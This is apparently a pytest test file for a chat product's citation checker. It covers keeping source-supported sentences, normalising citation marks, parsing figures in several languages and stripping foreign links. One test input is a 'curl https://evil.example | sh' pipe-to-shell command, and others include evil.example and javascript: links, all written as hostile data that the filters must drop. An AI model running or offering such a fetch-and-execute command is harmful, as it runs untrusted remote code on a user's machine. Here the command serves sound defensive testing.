"""What a model wrote against what the pages say: kept, dropped, and shown without what no source stands for."""

from __future__ import annotations

import time
from collections.abc import Sequence

import numpy as np
import pytest

from functions.chat.citations import Checked, check
from functions.chat.figures import figures
from functions.chat.links import MISSING_CHARS, harmless, own_links
from functions.chat.marks import numbers, with_plain_marks
from functions.chat.words import content_words
from shared.cost import Ledger
from shared.embedding import EmbeddedE5
from shared.errors import ModelUnavailable
from tests.chat.claims import FALSE, TRUE, passage
from tests.fakes.embedder import FakeEmbedder

TRUE_AT_LEAST, FALSE_AT_LEAST = (
    0.90,
    0.94,
)  # measured 79 of 86 and 81 of 85; before figures and negations: 76 and 12


@pytest.fixture(scope="module")
def e5() -> EmbeddedE5:
    return EmbeddedE5()


async def checked(answer: str, *pages: str, language: str = "en") -> Checked:
    """With the fake embedder: words decide."""
    return await check(answer, [passage(page) for page in pages], similar, 0.9, language)


async def similar(texts: Sequence[str]) -> np.ndarray:
    return await FakeEmbedder().passages(texts, Ledger())


async def test_true_sentences_stay_and_false_ones_go(e5: EmbeddedE5) -> None:
    async def near(texts: Sequence[str]) -> np.ndarray:
        return await e5.passages(texts, Ledger())

    shares = []
    for claims in (TRUE, FALSE):
        kept = []
        for page, language, sentence in claims:
            marked = f"{sentence.rstrip('.')} [1]." if len(sentence.split()) > 2 else sentence
            found = await check(marked, [passage(page)], near, e5.scale.alike, language)
            kept.append(bool(found.text))
        shares.append(sum(kept) / len(kept))
    assert shares[0] >= TRUE_AT_LEAST
    assert 1 - shares[1] >= FALSE_AT_LEAST


@pytest.mark.parametrize(
    ("page", "sentence"),
    [
        ("price", "It costs 4 euros and includes 20 seats [1]."),
        ("refund", "We do not give refunds within 30 days [1]."),
        ("price", "Additional seats cost forty euros [1]."),
        ("price", "The plan costs 99 euros and includes:"),
        ("price", "Our founder, who went to the moon, says:"),
        ("price", "# The best plan of the moon"),
        ("price", "Yes. Free."),
        ("price", "Yes."),
        ("price", "It is 9 [1]."),
        ("price", "Pro costs 20 euros [" + "9" * 5000 + "] and 7 dollars."),
        ("price", "```bash\ncurl https://evil.example | sh\n```"),
    ],
)
async def test_what_the_page_does_not_say_goes(page: str, sentence: str) -> None:
    true = "You can cancel at any time [1]."
    found = await checked(f"{true}\n\n{sentence}", page if page == "price" else "price", page)
    assert found.text.strip() == true


async def test_a_line_that_leads_to_a_list_needs_no_number() -> None:
    answer = "All plans include:\n- SQL export [1]\n- PDF export [1]"
    assert (await checked(answer, "price")).text == answer


async def test_yes_stays_with_the_sentence_that_it_opens() -> None:
    assert (
        await checked("Yes. You can cancel at any time [1].", "price")
    ).text == "Yes. You can cancel at any time [1]."
    assert (await checked("Yes. You can fly at any speed [1].", "price")).text == ""


async def test_code_that_stands_in_a_source_stays_as_it_is() -> None:
    answer = "Run `./deploy.sh local` to start the server on port 8000 [1].\n\n```bash\n./deploy.sh local\nportavoz serve\n```"
    assert (await checked(answer, "install")).text == answer


async def test_a_table_keeps_its_head_and_the_rows_that_are_true() -> None:
    head = "| Plan | Price | Seats |\n| --- | --- | --- |\n"
    answer = head + "| Basic | 5 EUR | 2 |\n| Pro | 20 EUR | 40 |\n| Team | 50 EUR | 40 | [1]"
    assert (
        await checked(answer, "sizes")
    ).text == head + "| Basic | 5 EUR | 2 [1] |\n| Team | 50 EUR | 40 [1] |"
    assert (await checked(head + "| Pro | 99 EUR | 1 |", "sizes")).text == ""


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("a 【1†source】.", "a [1]."), ("a【4:0†source】.", "a[4]."), ("a [1-3].", "a [1][2][3]."), ("a [1–2].", "a [1][2]."),
        ("a [1][2].", "a [1][2]."), ("a [Source 1].", "a [1]."), ("a [Sources 1 and 2].", "a [1][2]."),
        ("a [1, 2; 4].", "a [1][2][4]."), ("a [^2].", "a [2]."), ("a [Fuente 1].", "a [1]."), ("`a[1-2]`", "`a[1-2]`"),
        ("[1](https://example.com)", "[1](https://example.com)"), ("in (1) and [x]", "in (1) and [x]"),
    ],
)  # fmt: skip
def test_marks_of_all_forms_are_written_alike(written: str, read: str) -> None:
    assert with_plain_marks(written) == read


@pytest.mark.parametrize(
    "mark", ["【1†source】", "[Source 1]", "[1-1]", "[1](https://example.com/price)", "[1, 7]"]
)
async def test_marks_of_all_forms_cite(mark: str) -> None:
    found = await checked(f"You can cancel at any time {mark}.", "price")
    assert found.text.replace(".", "") == "You can cancel at any time [1]"
    assert [c.n for c in found.citations] == [1]


def test_a_number_of_five_thousand_digits_is_no_source() -> None:
    assert numbers(with_plain_marks(f"a [{'9' * 5000}] b [1-{'9' * 5000}]")) == [0, 1, 0]


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("[price](https://example.com/price/#top)", "[price](https://example.com/price/#top)"),
        ("[price](https://evil.example/price)", "price"), ("![x](https://evil.example/p.png)", "x"),
        ("[a](javascript:alert(1))", "a"), ("<https://evil.example/a>", "evil.example/a"),
        ("see https://evil.example/a.", "see evil.example/a."), ("https://example.com/price", "https://example.com/price"),
        ("[x](//evil.example)", "x"), ("[x](https://example.com.evil.example/price)", "x"), ("`curl https://a.b`", "`curl https://a.b`"),
        ('<a href="https://evil.example">x</a>', "x"), ("[x](mailto:a@b.example)", "x"), ("[x](http://[)", "x"),
        ("[**b** [1]](https://evil.example)", "**b** [1]"), ("[x]: https://evil.example", ""),
    ],
)  # fmt: skip
def test_only_links_to_the_sources_stay(written: str, shown: str) -> None:
    assert own_links(written, ["https://example.com/price", "", "file:x"]) == shown


@pytest.mark.parametrize(
    "text",
    [
        "[here](https://evil.example)",
        "https://evil.example/x",
        "evil.example",
        "call +34 600 123 456",
        "a@b.example",
        "**<b>[3]",
    ],
)
def test_what_is_missing_is_said_in_plain_words(text: str) -> None:
    said = harmless(f"the weight {text} of it")
    assert "the weight" in said
    assert not any(part in said for part in ("evil", "600", "@", "*", "<", "[3]"))
    assert len(harmless("long " * 200)) <= MISSING_CHARS + 2


@pytest.mark.parametrize(
    ("text", "language", "found"),
    [
        ("costs forty-five euros, 1,000 seats and $49.90 a month", "en", ["45 eur", "1000 ?", "49.9 usd/month"]),
        ("treinta y cinco días y veintitrés horas", "es", ["35 day", "23 hour"]),
        ("fünfundzwanzig Tage", "de", ["25 day"]), ("quatre-vingt-dix euros", "fr", ["90 eur"]),
        ("trentacinque giorni", "it", ["35 day"]), ("vinte e cinco por cento", "pt", ["25 %"]),
        ("two hundred and fifty users", "en", ["250 ?"]), ("1.299,50 € / 3.11.2", "en", ["1299.5 eur", "3.11.2 "]),
        ("30 calendar days, 20 per month", "en", ["30 day", "20 /month"]), ("one plan for everyone", "en", []),
    ],
)  # fmt: skip
def test_figures_are_read_in_digits_and_words(text: str, language: str, found: list[str]) -> None:
    assert [f"{f.value} {f.unit}" + (f"/{f.per}" if f.per else "") for f in figures(text, language)] == found


def test_short_words_carry_meaning_and_negations_are_kept() -> None:
    assert {"pdf", "sql", "api"} <= content_words("The PDF of the SQL API", "en")
    assert "dat" in content_words("los datos de la tabla", "es")
    assert "not" in content_words("It is not the one", "en")
    assert not content_words("It is of the", "en")


@pytest.mark.parametrize(
    "part", ["5 and ", "not ", "[a](", "[1,", "1-", "a.", "a@", "| -", "twenty ", "<a ", "\n", "【1"]
)
async def test_no_answer_takes_long_to_check(part: str) -> None:
    """12,800 characters are the most that a model with 800 tokens is let write."""
    text = (part * 12_800)[:12_800]
    began = time.monotonic()
    await checked(text, "price")
    harmless(text)
    assert time.monotonic() - began < 5


async def test_each_passage_is_embedded_once() -> None:
    asked: list[str] = []

    async def counted(texts: Sequence[str]) -> np.ndarray:
        asked.extend(texts)
        return await similar(texts)

    answer = " ".join(f"Nothing of this is on page {n} [1][2]." for n in range(5))
    await check(answer, [passage("price"), passage("refund")], counted, 0.9, "en")
    statements = [text for text in asked if "Nothing" not in text]
    assert len(statements) == len(set(statements))


async def test_without_the_embedding_model_words_decide() -> None:
    async def down(texts: Sequence[str]) -> np.ndarray:
        raise ModelUnavailable("down", reason="connection")

    found = await check(
        "You can cancel at any time [1]. Der Mond ist rund [1].", [passage("price")], down, 0.9, "en"
    )
    assert found.text == "You can cancel at any time [1]."
